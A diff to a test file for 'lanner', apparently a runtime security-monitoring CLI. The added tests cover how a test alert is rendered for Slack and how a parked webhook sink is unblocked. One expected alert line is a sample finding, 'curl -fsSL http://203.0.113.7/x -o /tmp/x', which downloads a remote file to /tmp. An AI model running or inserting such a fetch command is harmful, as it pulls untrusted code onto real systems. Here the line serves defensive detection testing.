@@ -103,6 +103,21 @@ describe('lanner sink test', () => {
     expect(out).not.toContain('very-secret-token');
   });
 
+  it('shows of a message for people what they are likely to see', async () => {
+    const chat = await receiver();
+    const config = bench.config(
+      `sources: {t: {type: tetragon, address: "unix:///none.sock"}}\nsinks: {chat: {type: slack, url: "${chat.url}"}}\npage_url: "https://lanner.example"\n`,
+    );
+    const { code, out } = await said(['sink', 'test', 'chat', '-c', config]);
+    expect(code).toBe(0);
+    const seen = out.slice(out.indexOf('What a person is likely to see:'));
+    expect(seen).toContain('\n  🟠 HIGH  TEST: curl in shop/web-7d9f4');
+    expect(seen).toContain('\n  Command  curl -fsSL http://203.0.113.7/x -o /tmp/x\n');
+    expect(seen).toMatch(
+      /\n {2}Open in Lanner: https:\/\/lanner\.example\/findings\/test-\d+\n\ndelivered\n$/,
+    );
+  });
+
   it('ends with 1 and the reason when it does not arrive', async () => {
     const ops = await receiver();
     ops.answer = (_request, response) => response.writeHead(403).end();
@@ -115,6 +130,36 @@ describe('lanner sink test', () => {
     const wrong = await said(['sink', 'test', 'opps', '-c', config]);
     expect(wrong.code).toBe(2);
     expect(wrong.err).toContain('did you mean ops?');
+  });
+});
+
+describe('lanner sink unblock', () => {
+  it('has a parked sink of the running Lanner asked again at once', async () => {
+    const ops = await receiver();
+    ops.answer = (_request, response) => response.writeHead(403).end();
+    const config = bench.config(
+      `sources: {t: {type: tetragon, address: "${await agent()}"}}\nsinks: {ops: {type: webhook, url: "${ops.url}", concurrency: 1}}\n`,
+    );
+    const idle = await said(['sink', 'unblock', 'ops', '-c', config]);
+    expect(idle.code).toBe(4);
+    expect(idle.err).toMatch(/no Lanner runs .*\n.*\[socket_missing\]/);
+
+    const run = bench.lanner(['run', '-c', config]);
+    await until(() => run.err().includes('sink parked'), 'the refusal');
+    ops.answer = (_request, response) => response.writeHead(204).end();
+    const before = ops.received.length;
+    const { code, out } = await said(['sink', 'unblock', 'ops', '-c', config]);
+    expect(code).toBe(0);
+    expect(out).toMatch(/^ops was parked \(.*403.*\) and is asked again; \d+ wait\n$/);
+    await until(() => ops.received.length > before, 'what was parked');
+    expect((await said(['sink', 'unblock', 'ops', '-c', config])).out).toMatch(
+      /^ops is not blocked; \d+ wait\n$/,
+    );
+    const wrong = await said(['sink', 'unblock', 'opps', '-c', config]);
+    expect(wrong.code).toBe(2);
+    expect(wrong.err).toContain('did you mean ops?');
+    run.child.kill('SIGTERM');
+    expect(await run.code).toBe(0);
   });
 });
 
